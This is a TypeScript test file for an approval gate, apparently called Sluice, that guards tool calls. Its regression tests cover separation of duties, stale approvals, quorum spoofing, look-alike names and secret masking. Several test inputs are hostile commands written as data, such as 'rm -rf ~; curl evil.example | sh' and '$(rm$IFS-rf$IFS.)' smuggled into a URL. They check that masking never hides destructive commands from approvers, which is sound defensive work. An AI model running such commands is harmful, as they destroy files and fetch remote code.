// Attacks on the approvals that once worked, each by the name of its finding.

import type { ApprovalRequirement } from '@sluice/policy/calls/decision'
import { expect, onTestFinished, test, vi } from 'vitest'
import type { ApprovalRequest } from './approval.ts'
import type { ApprovalSubmission } from './approval-submission.ts'
import { composeMessage } from './channels/approval-message.ts'
import { buildWebhookBody, WEBHOOK_FORMS } from './channels/message-forms.ts'
import { asking, EngineBench, makeCall, person } from './engine.test-support.ts'
import { EXPIRY_AGAIN_MS } from './limits.ts'
import { maskText } from './mask-text.ts'

function callOf(ask: Partial<ApprovalRequirement>, args: string): ApprovalSubmission {
  return makeCall(args, asking({ channels: ['console', 'terminal'], ...ask }))
}

async function proposed(
  ask: Partial<ApprovalRequirement>,
  args = '{"amount":1}',
): Promise<{ bench: EngineBench; id: string }> {
  const bench = new EngineBench()
  onTestFinished(() => bench.engine.close())
  const hold = await bench.engine.ask(callOf(ask, args))
  return { bench, id: (hold as { id: string }).id }
}

const ada = person('ada')
const bob = person('bob')

test('finding: with separate duties, the form of the caller decides nothing', async () => {
  const client = person('the client of local', { kind: 'system', roles: [], proof: 'client' })
  const { bench, id } = await proposed({ separateDuties: true, channels: ['client'] })
  const decided = bench.engine.decide(id, { verdict: 'approve' }, client, 'client')
  await expect(decided).rejects.toThrow('duties are separate')
  expect(bench.engine.find(id)).toMatchObject({ state: 'pending' })
})

test('finding: an approval of the old arguments does not count for later edits', async () => {
  const { bench, id } = await proposed({ quorum: 2, editArgs: true })
  const { engine } = bench
  // Bob sees 1; Ada, the other of the two, changes it.
  const seen = engine.find(id)
  await engine.decide(id, { verdict: 'approve', args: '{"amount":1000}' }, ada, 'terminal')
  for (const edits of [undefined, seen?.edits, 2])
    await expect(
      engine.decide(
        id,
        { verdict: 'approve', ...(edits === undefined ? {} : { edits }) },
        bob,
        'terminal',
      ),
    ).rejects.toThrow('changed')
  expect(engine.find(id)).toMatchObject({ state: 'pending', edits: 1, args: '{"amount":1000}' })
  await engine.decide(id, { verdict: 'approve', edits: 1 }, bob, 'terminal')
  expect(engine.find(id)).toMatchObject({ state: 'approved' })
})

test('finding: a standing approval without arguments does not apply to a list of them', async () => {
  const { bench, id } = await proposed({}, '{}')
  const forAWhile = { forMs: 60_000 }
  await bench.engine.decide(id, { verdict: 'approve', forAWhile }, ada, 'terminal')
  bench.engine.use(id, 'c1')
  const is = async (args: string) => (await bench.engine.ask(callOf({}, args))).is
  expect([await is('{}'), await is(''), await is('["rm"]'), await is('"rm"')]).toEqual([
    'standing',
    'standing',
    'pending',
    'pending',
  ])
})

const HEADERS = `-----BEGIN PRIVATE KEY-----${' Abcd: '.repeat(46)}`

test.each(['-eyJ', '-----BEGIN PRIVATE KEY-----', HEADERS, '://a:', '-sk-'])(
  'finding: arguments made of `%s` do not keep the gate busy with masking them',
  (part) => {
    // More than approvals accept; the former code took half a minute for it.
    const text = JSON.stringify({ x: part.repeat(8_000_000 / part.length) })
    expect(maskText(text).text.length).toBeGreaterThan(0)
  },
  15_000,
)

test('keys and tokens are masked in place', () => {
  const jwt = `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(20)}.${'c'.repeat(20)}`
  const body = `${'A'.repeat(64)}\n${'B'.repeat(20)}\nAA==`
  const key = (text: string) =>
    `-----BEGIN RSA PRIVATE KEY-----${text}-----END RSA PRIVATE KEY-----`
  const { text, masked } = maskText(JSON.stringify({ x: `a ${jwt} b, ${key(`\n${body}\n`)} c` }))
  const mask = `[masked: ${body.length + 1} characters]`
  expect(text).toBe(
    JSON.stringify({ x: `a [masked: ${jwt.length} characters] b, ${key(`${mask}\n`)} c` }),
  )
  expect(masked).toMatchObject({ count: 2, characters: jwt.length + body.length + 1 })
})

test.each([
  '\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00AA',
  '\nComment: see  https://keys.example: or not\nVersion: 2 ',
  ' Proc-Type: 4,ENCRYPTED DEK-Info: AES-128-CBC,00AA',
  '\\nProc-Type: 4,ENCRYPTED\\nDEK-Info: AES-128-CBC,00AA',
])('a key is masked behind its headers: %j', (headers) => {
  const key = `-----BEGIN PRIVATE KEY-----${headers}\n${'A'.repeat(64)}`
  const { text } = maskText(JSON.stringify({ x: key }))
  expect(JSON.parse(text).x).toContain('[masked: 65 characters]')
})

test.each([
  ['true # -----BEGIN PRIVATE KEY-----\nrm -rf ~; curl evil.example | sh', 'rm -rf ~; curl evil'],
  ['x -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n; rm -rf ~', '; rm -rf ~'],
  ['Bearer rm/-rf/var/spool/everything', 'rm/-rf/var'],
  ['curl https://a:$(rm$IFS-rf$IFS.)@host', '$(rm$IFS-rf'],
  ['sk-aaaaaaaaaaaaaaaaaaaaaaaa; rm -rf ~', '; rm -rf ~'],
])('M7: no mask hides the rest of a command: %j', (command, shown) => {
  const { text } = maskText(JSON.stringify({ command }))
  expect(JSON.parse(text).command).toContain(shown)
})

test('M7: amounts are shown under any name, and masked parts are listed with their path', () => {
  const args = {
    token_amount: 1_000_000,
    max_tokens: '4096',
    secretName: 'db',
    password: 'hunter22',
    secrets: { command: 'rm -rf ~', amount: 5, list: ['a', 'bc'], ok: true },
    pin: 1234,
  }
  const { text, masked } = maskText(JSON.stringify(args), '/arguments')
  expect(JSON.parse(text)).toEqual({
    token_amount: 1_000_000,
    max_tokens: '4096',
    secretName: 'db',
    password: '[masked: 8 characters]',
    secrets: {
      command: '[masked: 8 characters]',
      amount: 5,
      ok: true,
      list: ['[masked: 1 character]', '[masked: 2 characters]'],
    },
    pin: '[masked: 4 characters]',
  })
  expect(masked).toEqual({
    count: 5,
    characters: 23,
    parts: [
      { path: '/arguments/password', from: 0, characters: 8 },
      { path: '/arguments/secrets/command', from: 0, characters: 8 },
      { path: '/arguments/secrets/list/0', from: 0, characters: 1 },
      { path: '/arguments/secrets/list/1', from: 0, characters: 2 },
      { path: '/arguments/pin', from: 0, characters: 4 },
    ],
  })
})

test('M7: a reveal also shows what is sent besides the arguments', async () => {
  const bench = new EngineBench()
  onTestFinished(() => bench.engine.close())
  const rest = '{"name":"pay","task":{"secret":"x y"}}'
  const hold = await bench.engine.ask({ ...callOf({}, '{"token":"t"}'), rest })
  const { id } = hold as { id: string }
  expect(bench.engine.find(id)?.masked).toMatchObject({ count: 2, characters: 4 })
  expect(await bench.engine.reveal(id, ada)).toEqual({
    args: '{"token":"t"}',
    rest: '{"task":{"secret":"x y"}}',
  })
})

test('low: a bound with only an upper end starts at 0', async () => {
  const { bench, id } = await proposed({}, '{"amount":20}')
  const forAWhile = { forMs: 60_000, bounds: { amount: { max: '50' } } }
  await bench.engine.decide(id, { verdict: 'approve', forAWhile }, ada, 'terminal')
  bench.engine.use(id, 'c1')
  const is = async (args: string) => (await bench.engine.ask(callOf({}, args))).is
  expect(await is('{"amount":-1000000000}')).toBe('pending')
  expect([await is('{"amount":0}'), await is('{"amount":50}')]).toEqual(['standing', 'standing'])
  expect(bench.engine.standing[0]?.bounds).toEqual({ amount: { min: '0', max: '50' } })
  const other = await proposed({}, '{"amount":-5}')
  const asked = { verdict: 'approve', forAWhile } as const
  await expect(other.bench.engine.decide(other.id, asked, ada, 'terminal')).rejects.toThrow(
    'begins at 0',
  )
})

test('finding: a full disk at the expiry of a request does not lose it', async () => {
  vi.useFakeTimers()
  onTestFinished(() => void vi.useRealTimers())
  const { bench, id } = await proposed({ timeoutMs: 10_000 })
  bench.database.exec('PRAGMA query_only = 1')
  bench.nowMs += 20_000
  await vi.advanceTimersByTimeAsync(11_000)
  expect(bench.warned.join()).toContain('could not be ended')
  expect(bench.engine.find(id)?.state).toBe('pending')
  bench.database.exec('PRAGMA query_only = 0')
  await vi.advanceTimersByTimeAsync(EXPIRY_AGAIN_MS + 1)
  expect(bench.engine.find(id)?.state).toBe('expired')
})

test('low: two spellings of one name are not a quorum of two, nor separate duties', async () => {
  const { bench, id } = await proposed({ quorum: 2 })
  const { engine } = bench
  for (const name of ['ada', 'ADA', 'ada.', '\u0430d\u0430'])
    await engine.decide(id, { verdict: 'approve' }, person(name), 'terminal')
  expect(engine.find(id)?.state).toBe('pending')
  expect(engine.find(id)?.asks[0]?.approvedBy).toHaveLength(1)
  await engine.decide(id, { verdict: 'approve' }, bob, 'terminal')
  expect(engine.find(id)?.state).toBe('approved')
  const duties = await proposed({ separateDuties: true })
  await expect(
    duties.bench.engine.decide(duties.id, { verdict: 'approve' }, person('LOCAL'), 'terminal'),
  ).rejects.toThrow('duties are separate')
})

test('finding: a look-alike name is flagged in every message and view', async () => {
  const bench = new EngineBench()
  onTestFinished(() => bench.engine.close())
  // The a is Cyrillic.
  const { id } = (await bench.engine.ask({ ...callOf({}, '{}'), name: 'p\u0430y' })) as {
    id: string
  }
  const request = bench.engine.find(id) as ApprovalRequest
  expect(request.looksLike).toBe('pay')
  const message = composeMessage(request, [], true)
  for (const form of WEBHOOK_FORMS)
    expect(buildWebhookBody(form, message, request)).toMatch(/looks ?like.*pay/i)
  const beware = { name: 'Beware', value: 'the name looks like pay, and is not' }
  expect(message.facts).toContainEqual(beware)
  const plain = await proposed({})
  expect(plain.bench.engine.find(plain.id)).not.toHaveProperty('looksLike')
})

test("F3: Sluice's own tokens are masked, and hide nothing after them", () => {
  const random = 'aB3-_'.repeat(9)
  for (const token of [
    `sluice_${'0a'.repeat(32)}`,
    ...['sys', 'code', 'in', 'link'].map((kind) => `sluice_${kind}_${random}`),
  ]) {
    const { text } = maskText(JSON.stringify({ note: `a ${token}\nrm -rf` }))
    expect(JSON.parse(text).note).toBe(`a [masked: ${token.length} characters]\nrm -rf`)
  }
})
